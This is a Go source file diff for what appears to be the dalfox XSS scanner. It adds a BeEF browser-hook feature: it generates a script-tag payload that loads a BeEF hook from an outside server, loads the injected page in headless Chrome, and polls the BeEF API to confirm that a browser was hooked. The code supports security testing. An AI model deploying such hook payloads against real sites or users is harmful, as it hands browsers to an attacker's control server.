@@ -0,0 +1,163 @@
+package browser
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"html"
+	"net/http"
+	neturl "net/url"
+	"strings"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"github.com/hahwul/dalfox/v2/pkg/model"
+)
+
+// beefPollInterval is how often VerifyBeEFHook asks BeEF for new hooked browsers
+const beefPollInterval = 500 * time.Millisecond
+
+// BeEFHookResult reports whether a page loaded with a BeEF hook payload got the
+// browser hooked, see Manager.VerifyBeEFHook
+type BeEFHookResult struct {
+	Active  bool   `json:"active"`             // a new browser came online after the navigation
+	HookID  string `json:"hook-id,omitempty"`  // BeEF session of the hooked browser
+	Count   int    `json:"count"`              // browsers that came online during the check
+	PageURI string `json:"page-uri,omitempty"` // page BeEF reports the browser hooked on
+}
+
+// ApplyToPoC copies the hook state into the BeEF fields of a scan PoC
+func (r *BeEFHookResult) ApplyToPoC(poc *model.PoC) {
+	poc.BeEFHookActive = r.Active
+	poc.BeEFHookID = r.HookID
+	poc.BeEFHookCount = r.Count
+}
+
+// BeEFHookPayload returns an HTML payload loading the BeEF hook script
+func BeEFHookPayload(hookURL string) string {
+	return fmt.Sprintf(`<script src="%s"></script>`, html.EscapeString(hookURL))
+}
+
+// beefBrowser is a hooked browser as listed by the BeEF REST API
+type beefBrowser struct {
+	Session string `json:"session"`
+	PageURI string `json:"page_uri"`
+}
+
+// beefHooks is the response of GET /api/hooks
+type beefHooks struct {
+	HookedBrowsers struct {
+		Online map[string]beefBrowser `json:"online"`
+	} `json:"hooked-browsers"`
+}
+
+// VerifyBeEFHook loads url, which must carry a payload loading hookURL (see
+// BeEFHookPayload), and polls the BeEF REST API until a browser that was not
+// online before comes online or Timeout expires. The tab stays open meanwhile
+// since the hook only reports while its page is alive. The API is reached at
+// BeEFAPIURL, or at /api on the origin of hookURL, with BeEFAPIToken.
+//
+// A hook that never registers is not an error; the result is then inactive.
+func (m *Manager) VerifyBeEFHook(url, hookURL string) (*BeEFHookResult, error) {
+	if !m.IsInitialized() {
+		return nil, ErrNotInitialized
+	}
+	if m.config.BeEFAPIToken == "" {
+		return nil, errors.New("BeEFAPIToken is required to query the BeEF API")
+	}
+	api, err := m.beefAPIURL(hookURL)
+	if err != nil {
+		return nil, err
+	}
+	client := &http.Client{Timeout: 10 * time.Second}
+
+	// browsers hooked before the navigation are not ours
+	before, err := fetchBeEFHooks(client, api, m.config.BeEFAPIToken)
+	if err != nil {
+		return nil, err
+	}
+
+	ctx, cancel, err := m.newContext(context.Background(), "")
+	if err != nil {
+		return nil, err
+	}
+	defer cancel()
+	m.listenTab(ctx) // dismisses dialogs, which would stall the hook
+	if err := m.runWithTimeout(ctx, chromedp.Navigate(url)); err != nil {
+		return nil, navigationError(err)
+	}
+
+	result := &BeEFHookResult{}
+	deadline := time.Now().Add(time.Duration(m.config.Timeout) * time.Second)
+	for {
+		online, err := fetchBeEFHooks(client, api, m.config.BeEFAPIToken)
+		if err != nil {
+			return nil, err
+		}
+		for session, b := range online {
+			if _, ok := before[session]; ok {
+				continue
+			}
+			result.Count++
+			// prefer the browser hooked on the validated page over unrelated ones
+			if result.HookID == "" || sameHost(b.PageURI, url) {
+				result.HookID, result.PageURI = session, b.PageURI
+			}
+		}
+		if result.Count > 0 {
+			result.Active = true
+			return result, nil
+		}
+		if time.Now().After(deadline) {
+			return result, nil
+		}
+		select {
+		case <-time.After(beefPollInterval):
+		case <-ctx.Done():
+			return result, nil
+		}
+	}
+}
+
+// beefAPIURL returns the configured BeEF API root or derives it from hookURL
+func (m *Manager) beefAPIURL(hookURL string) (string, error) {
+	if m.config.BeEFAPIURL != "" {
+		return strings.TrimRight(m.config.BeEFAPIURL, "/"), nil
+	}
+	u, err := neturl.Parse(hookURL)
+	if err != nil || u.Host == "" {
+		return "", fmt.Errorf("cannot derive the BeEF API from hook URL %q, set BeEFAPIURL", hookURL)
+	}
+	return u.Scheme + "://" + u.Host + "/api", nil
+}
+
+// fetchBeEFHooks returns the online hooked browsers keyed by session
+func fetchBeEFHooks(client *http.Client, api, token string) (map[string]beefBrowser, error) {
+	resp, err := client.Get(api + "/hooks?token=" + neturl.QueryEscape(token))
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		return nil, fmt.Errorf("BeEF API: %s", resp.Status)
+	}
+	var hooks beefHooks
+	if err := json.NewDecoder(resp.Body).Decode(&hooks); err != nil {
+		return nil, fmt.Errorf("BeEF API: %w", err)
+	}
+	online := make(map[string]beefBrowser, len(hooks.HookedBrowsers.Online))
+	for _, b := range hooks.HookedBrowsers.Online {
+		if b.Session != "" {
+			online[b.Session] = b
+		}
+	}
+	return online, nil
+}
+
+// sameHost reports whether both URLs point to the same host
+func sameHost(a, b string) bool {
+	ua, errA := neturl.Parse(a)
+	ub, errB := neturl.Parse(b)
+	return errA == nil && errB == nil && ua.Host != "" && strings.EqualFold(ua.Host, ub.Host)
+}